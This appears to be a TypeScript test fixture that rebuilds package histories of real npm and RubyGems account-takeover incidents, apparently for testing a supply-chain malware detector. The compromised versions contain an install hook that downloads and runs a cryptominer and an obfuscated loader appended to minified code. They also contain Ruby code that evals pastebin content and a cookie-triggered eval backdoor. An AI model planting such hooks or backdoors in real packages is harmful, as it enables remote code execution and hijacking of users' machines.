// Reconstructed account-takeover histories: a benign earlier version, then the compromised one (written by hand from public reports).

/** A readable stand-in for a library's real code: a few hundred lines of ordinary functions. */
function libraryCode(name: string, lines = 40): string {
  const body = Array.from({ length: lines }, (_, i) => `function ${name}Part${i}(input) {\n  const parts = String(input).split(/[;,]/)\n  return parts.map((p) => p.trim()).filter(Boolean).slice(0, ${i + 2})\n}`).join('\n')
  return `'use strict'\n${body}\nmodule.exports = { ${Array.from({ length: lines }, (_, i) => `${name}Part${i}`).join(', ')} }\n`
}

/** Minified output: one long line of bundled code, as build tools emit it. */
function minifiedCode(name: string): string {
  const fns = Array.from({ length: 60 }, (_, i) => `function ${name}${i}(n,t){return n.map(function(e){return t(e,${i})}).filter(Boolean)}`).join(';')
  return `!function(n){"use strict";${fns};module.exports=function(n,t){return ${name}0(n,t)}}();`
}

export interface HistoryStep {
  readonly name: string
  readonly version: string
  readonly files: Record<string, string>
  readonly manifest: Record<string, unknown>
}

/** ua-parser-js 0.7.29 (October 2021): a hijacked account added a first-ever preinstall that fetched and ran a miner. */
export const UA_PARSER: readonly HistoryStep[] = [
  { name: 'ua-parser-js', version: '0.7.28', files: { 'src/ua-parser.js': libraryCode('ua') }, manifest: { main: 'src/ua-parser.js' } },
  {
    name: 'ua-parser-js',
    version: '0.7.29',
    files: {
      'src/ua-parser.js': libraryCode('ua'),
      'preinstall.js': `const { exec } = require('child_process')
function terminalLinux() {
  exec('/bin/bash preinstall.sh', (error, stdout, stderr) => {
    if (error) return
  })
}
const opsys = process.platform
if (opsys === 'win32' || opsys === 'win64') exec('preinstall.bat')
else if (opsys === 'linux') terminalLinux()
`,
      'preinstall.sh': `IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]; then
  curl http://159.148.186.228/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then wget http://159.148.186.228/download/jsextension -O jsextension; fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 --cpu-max-threads-hint=50 --background >/dev/null 2>&1 &
fi
`,
      'preinstall.bat': `@echo off\ncurl http://159.148.186.228/download/jsextension.exe -o jsextension.exe\nstart /B jsextension.exe -k --tls -o pool.minexmr.com:443\n`,
    },
    manifest: { main: 'src/ua-parser.js', scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
  },
]

/**
 * flatmap-stream 0.1.1 (November 2018): the payload was appended to the minified entry file; it
 * decoded an encrypted blob with a key from the environment and compiled the result as a module.
 */
export const FLATMAP_STREAM: readonly HistoryStep[] = [
  { name: 'flatmap-stream', version: '0.1.0', files: { 'index.min.js': minifiedCode('fm') }, manifest: { main: 'index.min.js' } },
  {
    name: 'flatmap-stream',
    version: '0.1.1',
    files: {
      'index.min.js':
        minifiedCode('fm') +
        `!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();`,
      'test/data.js': `module.exports = ["${'a3c2f1'.repeat(200)}", "${'7f00'.repeat(40)}", "63727970746f", "656e76", "6e706d5f7061636b6167655f6465736372697074696f6e", "616573323536", "6372656174654465636970686572", "5f636f6d70696c65", "686578", "75746638"]\n`,
    },
    manifest: { main: 'index.min.js' },
  },
]

/** event-stream 3.3.6: the new maintainer's first release added flatmap-stream as a dependency. */
export const EVENT_STREAM: readonly HistoryStep[] = [
  { name: 'event-stream', version: '3.3.5', files: { 'index.js': libraryCode('es') }, manifest: { main: 'index.js', dependencies: { through: '~2.3.1' } } },
  {
    name: 'event-stream',
    version: '3.3.6',
    files: { 'index.js': libraryCode('es').replace("'use strict'\n", "'use strict'\nconst flatmap = require('flatmap-stream')\n") },
    manifest: { main: 'index.js', dependencies: { through: '~2.3.1', 'flatmap-stream': '^0.1.0' } },
  },
]

/** An ordinary upgrade: more functions, an established dependency, same maintainer. */
export const ORDINARY_UPGRADE: readonly HistoryStep[] = [
  { name: 'plain-lib', version: '1.0.0', files: { 'index.js': libraryCode('pl', 10) }, manifest: { main: 'index.js' } },
  {
    name: 'plain-lib',
    version: '1.1.0',
    files: { 'index.js': libraryCode('pl', 20), 'dist/plain.min.js': minifiedCode('pl') },
    manifest: { main: 'index.js', dependencies: { through: '^2.3.8' } },
  },
]

/** A gem release in a history: its library files and gemspec options (test/helpers/gems.ts builds it). */
export interface GemStep {
  readonly name: string
  readonly version: string
  readonly files: Record<string, string>
}

const rubyLibrary = (module: string, methods = 12) =>
  `module ${module}\n${Array.from({ length: methods }, (_, i) => `  def self.part${i}(input)\n    input.to_s.split(/[;,]/).map(&:strip).reject(&:empty?).first(${i + 2})\n  end`).join('\n')}\nend\n`

/** rest-client 1.6.13 (August 2019): a hijacked account's release fetched code from a paste site and evaluated it at load. */
export const REST_CLIENT: readonly GemStep[] = [
  { name: 'rest-client', version: '1.6.9', files: { 'lib/rest-client.rb': "require 'restclient'\n", 'lib/restclient.rb': rubyLibrary('RestClient') } },
  {
    name: 'rest-client',
    version: '1.6.13',
    files: {
      'lib/rest-client.rb': "require 'restclient'\n",
      'lib/restclient.rb': `${rubyLibrary('RestClient')}
require 'net/http'
begin
  code = Net::HTTP.get(URI('https://pastebin.com/raw/xa456PFt'))
  eval(code)
rescue StandardError
end
`,
    },
  },
]

/** strong_password 0.0.7 (June 2019): in production only, a thread evaluated code fetched from a paste site. */
export const STRONG_PASSWORD: readonly GemStep[] = [
  { name: 'strong_password', version: '0.0.6', files: { 'lib/strong_password.rb': "require 'strong_password/strength_checker'\n", 'lib/strong_password/strength_checker.rb': rubyLibrary('StrongPassword') } },
  {
    name: 'strong_password',
    version: '0.0.7',
    files: {
      'lib/strong_password.rb': "require 'strong_password/strength_checker'\n",
      'lib/strong_password/strength_checker.rb': `${rubyLibrary('StrongPassword')}
def _!;begin;yield;rescue Exception;end;end
_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('https://pastebin.com/raw/xa456PFt')))}}}if Rails.env[0]=="p"}
`,
    },
  },
]

/** bootstrap-sass 3.2.0.3 (March 2019): in production, a cookie's value was Base64-decoded and evaluated. */
export const BOOTSTRAP_SASS: readonly GemStep[] = [
  { name: 'bootstrap-sass', version: '3.2.0.2', files: { 'lib/bootstrap-sass.rb': rubyLibrary('Bootstrap') } },
  {
    name: 'bootstrap-sass',
    version: '3.2.0.3',
    files: {
      'lib/bootstrap-sass.rb': `${rubyLibrary('Bootstrap')}
require 'base64'
if Rails.env.production?
  Rails.application.config.after_initialize do
    ActionController::Base.class_eval do
      before_action do
        begin
          x = request.cookies['___cfduid']
          eval(Base64.urlsafe_decode64(x)) if x
        rescue StandardError
        end
      end
    end
  end
end
`,
    },
  },
]
